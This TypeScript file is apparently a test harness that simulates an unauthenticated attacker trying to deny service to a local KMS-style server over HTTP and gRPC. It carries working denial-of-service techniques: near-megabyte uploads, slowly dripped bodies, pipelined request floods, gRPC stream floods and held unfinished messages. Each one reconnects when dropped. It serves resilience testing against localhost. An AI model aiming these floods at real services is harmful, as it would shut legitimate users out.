/**
 * An attacker without credentials who wants to shut others out of a service. A process of its own, so that its cost is
 * not the honest client's. Uses other loopback addresses than they do.
 *
 *     node strangers.ts ATTACK HTTP_PORT GRPC_PORT ACCESS_KEY_ID
 *     node strangers.ts ATTACK '' GRPC_PORT METHOD_PATH
 *
 * Writes a line when everything that it sends first is sent.
 */
import { connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';

const [attack = '', httpPort = '', grpcPort = '', accessKeyId = ''] = process.argv.slice(2);
const methodPath = accessKeyId;

const HEAD =
  'POST / HTTP/1.1\r\nHost: kms\r\nContent-Type: application/x-amz-json-1.1\r\nX-Amz-Target: TrentService.ListKeys\r\n';
/** An access key id is no secret: it stands in logs. */
const NAMED = `Authorization: AWS4-HMAC-SHA256 Credential=${accessKeyId}/20260101/us-east-1/kms/aws4_request, SignedHeaders=host, Signature=0\r\n`;
const ALMOST_A_MEBIBYTE = 'x'.repeat(1_048_575);

/**
 * Keeps so many connections open: who is thrown out comes back. `run` tells when all that it sends at first is sent.
 */
function keepOpen(count: number, run: (localAddress: string, sent: () => void) => Socket): void {
  let waiting = count;
  for (let i = 0; i < count; i++) {
    const localAddress = `127.0.0.${2 + (i % 4)}`;
    const sent = once(() => --waiting === 0 && console.log('under way'));
    const open = (): void => {
      const socket = run(localAddress, sent);
      socket.on('close', sent).on('close', () => setTimeout(open, 100));
    };
    open();
  }
}

function once(act: () => unknown): () => void {
  let isDone = false;
  return () => {
    if (isDone) return;
    isDone = true;
    act();
  };
}

function http(localAddress: string): Socket {
  const socket = connect({ host: '127.0.0.1', port: Number(httpPort), localAddress });
  return socket.on('error', () => undefined).resume();
}

function upload(head: string): (localAddress: string, sent: () => void) => Socket {
  return (localAddress, sent) => {
    const socket = http(localAddress);
    socket.write(`${head}Content-Length: 1048576\r\n\r\n${ALMOST_A_MEBIBYTE}`, sent);
    return socket;
  };
}

function drip(localAddress: string, sent: () => void): Socket {
  const socket = http(localAddress);
  socket.write(`${HEAD}Content-Length: 4000\r\n\r\n`, sent);
  const timer = setInterval(() => socket.write('x'), 500);
  return socket.on('close', () => clearInterval(timer));
}

function pipeline(localAddress: string, sent: () => void): Socket {
  const socket = http(localAddress);
  socket.write(`${HEAD}Content-Length: 2\r\n\r\n{}`.repeat(11_000));
  socket.on('connect', sent);
  return socket;
}

/** `message`: what is sent of each call after its headers. */
function streams(
  message: Buffer,
  { path = '/keyfleet.kms.v1.Kms/ListKeys', count = 100 } = {},
): (localAddress: string, sent: () => void) => Socket {
  return (localAddress, sent) => {
    const socket = connect({ host: '127.0.0.1', port: Number(grpcPort), localAddress });
    const session = connectHttp2('http://kms', { createConnection: () => socket });
    session.on('error', () => undefined);
    const open = (): void => {
      if (session.destroyed || session.closed) return;
      const stream = session.request({
        ':method': 'POST',
        ':path': path,
        'content-type': 'application/grpc',
        te: 'trailers',
      });
      stream.on('error', () => undefined).on('close', () => setImmediate(open));
      stream.resume().write(message);
    };
    session.on('connect', () => {
      for (let i = 0; i < count; i++) open();
      sent();
    });
    return socket;
  };
}

/** A message of so many bytes, framed for gRPC, without its last byte. */
function unfinished(size: number): Buffer {
  const message = Buffer.alloc(size + 4);
  message.writeUInt32BE(size, 1);
  return message;
}

const attacks: Readonly<Record<string, () => void>> = {
  uploads: () => keepOpen(256, upload(HEAD)),
  'named uploads': () => keepOpen(256, upload(HEAD + NAMED)),
  'slow bodies': () => keepOpen(256, drip),
  pipeline: () => keepOpen(4, pipeline),
  streams: () => keepOpen(16, streams(Buffer.alloc(5))),
  'stream messages': () => keepOpen(8, streams(Buffer.alloc(1_000_000))),
  'held calls': () => keepOpen(4, streams(unfinished(4 * 1024 * 1024), { path: methodPath, count: 15 })),
  'held small calls': () => keepOpen(256, streams(unfinished(1_000), { path: methodPath, count: 32 })),
  'endless calls': () => keepOpen(16, streams(Buffer.alloc(5), { path: methodPath, count: 32 })),
  'many connections': () => keepOpen(256, streams(Buffer.alloc(0), { path: methodPath, count: 1 })),
};

attacks[attack]?.();
